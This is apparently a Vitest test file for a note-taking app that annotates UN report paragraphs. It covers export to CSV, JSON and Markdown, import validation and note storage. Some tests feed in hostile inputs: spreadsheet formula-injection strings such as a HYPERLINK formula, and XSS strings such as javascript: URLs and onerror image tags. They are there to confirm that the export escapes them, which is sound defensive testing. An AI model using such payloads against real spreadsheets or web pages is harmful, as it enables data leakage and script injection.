import 'fake-indexeddb/auto';
import { IDBFactory } from 'fake-indexeddb';
import { beforeEach, describe, expect, it } from 'vitest';
import { openDatabase, type Database } from '../data/db';
import type { Note } from '../data/schema';
import { csvField, notesToCsv } from './export-csv';
import { notesToJson } from './export-json';
import { notesToMarkdown } from './export-markdown';
import { filterNotes, NO_NOTE_FILTERS, noteFacets } from './filter-notes';
import { importNotes, parseNotesFile } from './import-json';
import { createNote, deleteNote, listNotes, restoreNote, updateNote } from './note-store';
import { formatTags, parseTags } from './tags';

const NOTE: Note = {
  id: 'n-29e',
  paragraphKey: 'apr3@zero:29e',
  pageUrl: 'http://press.un.org/un/ict4peace-input.html',
  quote: 'the “escalatory” risk',
  body: 'Ask the Chair, "soon", about withdrawal,\nthen report.',
  tags: ['ci', 'follow-up'],
  created: '2025-01-02T10:00:00.000Z',
  updated: '2025-01-03T11:00:00.000Z',
};
const PAGE_NOTE: Note = {
  id: 'n-page',
  paragraphKey: null,
  pageUrl: 'http://press.un.org/un/meeting-summary.html',
  quote: null,
  body: '=SUM(A1) is not a formula here <b>',
  tags: [],
  created: '2025-02-01T09:00:00.000Z',
  updated: '2025-02-01T09:00:00.000Z',
};
const OTHER: Note = { ...NOTE, id: 'n-50c', paragraphKey: 'apr3:50c', quote: null, body: 'Portal', tags: ['stakeholders'], updated: '2025-03-01T00:00:00.000Z' };

let db: Database;
beforeEach(async () => {
  globalThis.indexedDB = new IDBFactory();
  db = await openDatabase();
});

describe('export', () => {
  it('JSON holds every note completely and reads back the same', async () => {
    const json = notesToJson([NOTE, PAGE_NOTE], new Date('2025-04-01T00:00:00Z'));
    const parsed = await parseNotesFile(json);
    expect(parsed).toEqual({ ok: true, notes: [NOTE, PAGE_NOTE], rejected: [] });
    expect(JSON.parse(json)).toMatchObject({ format: 'apr-lens-notes', version: 1, exported: '2025-04-01T00:00:00.000Z' });
  });

  it('CSV quotes every field, starts with a byte order mark and runs no formula', () => {
    expect(csvField('plain')).toBe('"plain"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    // OWASP's list: a cell starting with one of these is text, not a formula.
    for (const start of ['=', '+', '-', '@', '\t', '\r', '＝']) expect(csvField(`${start}HYPERLINK("http://x.test/?"&A1)`)).toMatch(/^"'/);
    const csv = notesToCsv([NOTE, PAGE_NOTE, { ...OTHER, tags: ['=cmd', 'Économie, sociale'] }]);
    expect(csv.startsWith('\uFEFF"id","paragraph"')).toBe(true);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[1]).toBe(
      '"n-29e","3rd APR (zero draft), para 29 (e)","apr3@zero:29e","http://press.un.org/un/ict4peace-input.html","the “escalatory” risk","Ask the Chair, ""soon"", about withdrawal,\nthen report.","ci; follow-up","2025-01-02T10:00:00.000Z","2025-01-03T11:00:00.000Z"',
    );
    expect(lines[2]).toContain(`"'=SUM(A1) is not a formula here <b>"`);
    expect(lines[3]).toContain(`"'=cmd; Économie, sociale"`);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('Markdown groups notes by report and paragraph, with ICT4Peace positions and their sources beside them', () => {
    const markdown = notesToMarkdown(
      [OTHER, { ...NOTE, pageTitle: 'ICT4Peace [input]' }, PAGE_NOTE],
      {
        'apr3:29e': [
          {
            id: 'p',
            title: 'Critical infrastructure [call]',
            date: '2019-10-29',
            summary: 'Pledge to refrain.',
            sourceUrl: 'https://ict4peace.org/ci',
            sourceTitle: 'A call to governments',
          },
        ],
      },
      new Date('2025-04-01T00:00:00Z'),
    );
    const at = (text: string) => markdown.indexOf(text);
    expect(at('## 3rd APR')).toBeGreaterThan(0);
    expect(at('### 3rd APR (zero draft), para 29 (e)')).toBeLessThan(at('### 3rd APR, para 50 (c)'));
    expect(markdown).toContain(
      '- [Critical infrastructure \\[call\\]](<https://ict4peace.org/ci>) (A call to governments, October 29, 2019): Pledge to refrain.',
    );
    expect(markdown).toContain('> the “escalatory” risk');
    // Lines kept as written: a hard break, not one run-on paragraph.
    expect(markdown).toContain('Ask the Chair, "soon", about withdrawal,\\\nthen report.');
    expect(markdown).toContain('tags: ci, follow-up');
    // Readable dates, and the page as a link with its title.
    expect(markdown).toContain('January 2, 2025');
    expect(markdown).not.toContain('2025-01-02T10:00:00.000Z');
    expect(markdown).toContain('[ICT4Peace \\[input\\]](<http://press.un.org/un/ict4peace-input.html>)');
    expect(at('## Notes on pages')).toBeGreaterThan(at('Portal'));
    expect(markdown).toContain('### [http://press.un.org/un/meeting-summary.html](<http://press.un.org/un/meeting-summary.html>)');
    // No raw HTML from a note reaches the document.
    expect(markdown).toContain('\\<b\\>');
  });

  it('Markdown shows bodies and imported addresses as text, never as markup or a foreign link', () => {
    const hostile: Note = {
      ...PAGE_NOTE,
      pageUrl: 'javascript:alert(1)//>)<img src=x onerror=alert(2)>',
      pageTitle: null,
      body: '# Not a heading\n  1. not a list\n- nor this\n===\n<script>x</script> [link](javascript:y) `code` *em* &amp;\n\n\n    not code\n> not a quote',
    };
    const spaced: Note = { ...NOTE, id: 'spaced', pageUrl: 'https://example.org/a b<c>"d"', pageTitle: 'T' };
    const markdown = notesToMarkdown([hostile, spaced], {}, new Date('2025-04-01T00:00:00Z'));
    expect(markdown).not.toMatch(/(?<!\\)\]\(<?javascript:/);
    expect(markdown).toContain('### javascript:alert(1)//\\>)\\<img src=x onerror=alert(2)\\>');
    expect(markdown).toContain('[T](<https://example.org/a%20b%3Cc%3E%22d%22>)');
    const body = markdown.slice(markdown.indexOf('\\# Not a heading'));
    expect(body.split('\n').slice(0, 7)).toEqual([
      '\\# Not a heading\\',
      '1\\. not a list\\',
      '\\- nor this\\',
      '\\===\\',
      '\\<script\\>x\\</script\\> \\[link\\](javascript:y) \\`code\\` \\*em\\* \\&amp;',
      '',
      'not code\\',
    ]);
    expect(body).toContain('\\> not a quote');
  });
});

describe('import', () => {
  const file = (notes: unknown[]) => JSON.stringify({ format: 'apr-lens-notes', version: 1, exported: '2025-01-01T00:00:00.000Z', notes });

  it('refuses what is not JSON, or not an export, with a message, and changes nothing', async () => {
    await db.add('notes', NOTE);
    const texts = ['{not json', JSON.stringify({ format: 'other' }), JSON.stringify({ notes: [] }), JSON.stringify({ format: 'apr-lens-notes', version: 2, notes: [] })];
    for (const text of texts) {
      const parsed = await parseNotesFile(text);
      expect(parsed.ok).toBe(false);
      if (!parsed.ok) expect(parsed.message).toMatch(/Nothing was imported; your notes are unchanged\./);
    }
    expect(await parseNotesFile('{}')).toEqual({ ok: false, message: expect.stringMatching(/^This is not an APR Lens notes export: it has no "format"/) });
    expect(await listNotes(db)).toEqual([NOTE]);
  });

  it('keeps the valid notes of a file and lists the others by position, in plain words', async () => {
    const parsed = await parseNotesFile(
      file([
        NOTE,
        { ...OTHER, created: 'yesterday' },
        'a note',
        { ...PAGE_NOTE, tags: 'x' },
        { ...OTHER, id: 'n-no-place', paragraphKey: null, pageUrl: null },
        { ...NOTE, id: 'n-no-body', body: undefined },
      ]),
    );
    expect(parsed.ok).toBe(true);
    if (!parsed.ok) return;
    expect(parsed.notes).toEqual([NOTE]);
    expect(parsed.rejected).toEqual([
      { position: 2, reason: 'its creation date (“yesterday”) is not a date and time between 2000 and today, such as 2025-01-02T10:00:00.000Z' },
      { position: 3, reason: 'it is not a note' },
      { position: 4, reason: 'its tags (“x”) are not a list of words' },
      { position: 5, reason: 'it belongs to neither a paragraph nor a page' },
      { position: 6, reason: 'its text (missing) is not text' },
    ]);
  });

  it('refuses dates out of a sane range, so that an edit cannot push one past what the format can write', async () => {
    const parsed = await parseNotesFile(file([{ ...NOTE, updated: '9999-12-31T23:59:59.999Z' }, { ...OTHER, created: '1970-01-01T00:00:00.000Z' }]));
    expect(parsed.ok && parsed.rejected.map((entry) => entry.position)).toEqual([1, 2]);
  });

  it('adds new notes, replaces a note only by a newer version of it, and counts what it did', async () => {
    await db.add('notes', { ...NOTE, body: 'edited since the export', updated: '2025-05-01T00:00:00.000Z' });
    await db.add('notes', { ...PAGE_NOTE, id: 'other-id' });
    await db.add('notes', { ...OTHER, body: 'older here', updated: '2025-02-01T00:00:00.000Z' });
    const result = await importNotes(db, [NOTE, PAGE_NOTE, OTHER, { ...OTHER, id: 'n-new', body: 'New' }]);
    expect(result).toEqual({ ok: true, added: 1, updated: 1, left: 2 });
    const stored = await listNotes(db);
    expect(stored).toHaveLength(4);
    expect(stored.find((note) => note.id === NOTE.id)?.body).toBe('edited since the export');
    expect(stored.find((note) => note.id === OTHER.id)?.body).toBe('Portal');
    expect(await importNotes(db, [NOTE, PAGE_NOTE, OTHER])).toEqual({ ok: true, added: 0, updated: 0, left: 3 });
  });

  it('imports a large file in batches that let an edit made meanwhile through', async () => {
    const many = Array.from({ length: 2_000 }, (_, i) => ({ ...OTHER, id: `bulk-${i}`, body: `Bulk ${i}` }));
    const parsed = await parseNotesFile(file(many), { batchSize: 200 });
    if (!parsed.ok) throw new Error(parsed.message);
    const created = await createNote(db, { paragraphKey: 'apr3:29e', pageUrl: null, quote: null, body: 'typing', tags: [] });
    if (created.status !== 'saved') throw new Error('not saved');
    const order: string[] = [];
    let yields = 0;
    const importing = importNotes(db, parsed.notes, {
      batchSize: 200,
      yieldToPage: async () => {
        yields++;
        // The user types while the import runs: the save must not wait for the whole import.
        if (yields === 1) void updateNote(db, created.note, { ...created.note, body: 'typed meanwhile' }).then(() => order.push('edit saved'));
        await new Promise((resolve) => setTimeout(resolve, 0));
      },
    }).then((result) => {
      order.push('import done');
      return result;
    });
    expect(await importing).toEqual({ ok: true, added: 2_000, updated: 0, left: 0 });
    expect(yields).toBe(9);
    expect(order).toEqual(['edit saved', 'import done']);
    expect((await db.get('notes', created.note.id))?.body).toBe('typed meanwhile');
  });

  it('says how many were saved when the database refuses the import', async () => {
    db.close();
    const result = await importNotes(db, [OTHER]);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.message).toMatch(/could not all be saved .*0 were saved before it stopped/);
  });
});

describe('note store', () => {
  const draft = { paragraphKey: 'apr3:29e', pageUrl: null, quote: null, body: 'first', tags: [] };

  it('creates, updates and reports a newer stored version as a conflict', async () => {
    const created = await createNote(db, draft);
    expect(created.status).toBe('saved');
    if (created.status !== 'saved') return;
    expect(created.note.created).toBe(created.note.updated);
    const elsewhere = await updateNote(db, created.note, { ...draft, body: 'from the other window' });
    expect(elsewhere.status).toBe('saved');
    if (elsewhere.status !== 'saved') return;
    expect(elsewhere.note.updated > created.note.updated).toBe(true);
    // This view still starts from the first version: its write must not silently win.
    const stale = await updateNote(db, created.note, { ...draft, body: 'from here' });
    expect(stale).toEqual({ status: 'conflict', stored: elsewhere.note });
    expect((await db.get('notes', created.note.id))?.body).toBe('from the other window');
  });

  it('says a deleted note is missing, restores it exactly, and reports failures as values', async () => {
    const created = await createNote(db, draft);
    if (created.status !== 'saved') throw new Error('not saved');
    expect(await deleteNote(db, created.note.id)).toEqual({ ok: true });
    expect(await updateNote(db, created.note, draft)).toEqual({ status: 'missing' });
    expect(await restoreNote(db, created.note)).toEqual({ ok: true });
    expect(await db.get('notes', created.note.id)).toEqual(created.note);
    db.close();
    const failed = await updateNote(db, created.note, { ...draft, body: 'kept' });
    expect(failed.status).toBe('failed');
    if (failed.status === 'failed') expect(failed.message).toMatch(/could not be saved .*Your text is kept in the editor\./);
  });
});

describe('dates and tags survive edits and exports', () => {
  it('an edit of a note with a far-future date stores a date every export can re-import', async () => {
    // Imported before dates were checked.
    await db.add('notes', { ...NOTE, created: '9999-12-31T23:59:59.999Z', updated: '9999-12-31T23:59:59.999Z' });
    const result = await updateNote(db, (await db.get('notes', NOTE.id))!, { ...NOTE, body: 'edited' });
    expect(result.status).toBe('saved');
    if (result.status !== 'saved') return;
    expect(result.note.updated).toMatch(/^20\d\d-/);
    expect(result.note.created).toMatch(/^20\d\d-/);
    const again = await parseNotesFile(notesToJson(await listNotes(db)));
    expect(again.ok && again.rejected).toEqual([]);
  });

  it('a tag holding a comma or a quote stays one tag through the editor text', () => {
    const tags = ['Smith, J.', 'say "hi"', 'ci', '"quoted"'];
    expect(parseTags(formatTags(tags))).toEqual(tags);
    expect(formatTags(tags)).toBe('"Smith, J.", "say ""hi""", ci, """quoted"""');
    expect(parseTags('"a, b" , c')).toEqual(['a, b', 'c']);
  });

  it('compares tags without case', () => {
    expect(parseTags('CI, ci, Follow-up, follow-UP')).toEqual(['CI', 'Follow-up']);
    const notes = [NOTE, { ...OTHER, tags: ['CI'] }];
    expect(filterNotes(notes, { ...NO_NOTE_FILTERS, tag: 'Ci' }).map((note) => note.id)).toEqual(['n-50c', 'n-29e']);
    expect(noteFacets(notes).tags).toEqual(['ci', 'follow-up']);
  });
});

describe('browsing notes', () => {
  it('filters by report, paragraph and tag, newest first, and offers what the notes have', () => {
    const notes = [NOTE, PAGE_NOTE, OTHER];
    expect(filterNotes(notes, NO_NOTE_FILTERS).map((note) => note.id)).toEqual(['n-50c', 'n-page', 'n-29e']);
    expect(filterNotes(notes, { ...NO_NOTE_FILTERS, report: 'apr3' }).map((note) => note.id)).toEqual(['n-50c', 'n-29e']);
    expect(filterNotes(notes, { ...NO_NOTE_FILTERS, paragraph: 'apr3:29e' }).map((note) => note.id)).toEqual(['n-29e']);
    expect(filterNotes(notes, { ...NO_NOTE_FILTERS, tag: 'stakeholders' }).map((note) => note.id)).toEqual(['n-50c']);
    expect(noteFacets(notes)).toEqual({ paragraphs: ['apr3:29e', 'apr3:50c'], tags: ['ci', 'follow-up', 'stakeholders'] });
    expect(parseTags(' ci,  follow  up ,ci,, ')).toEqual(['ci', 'follow up']);
  });
});
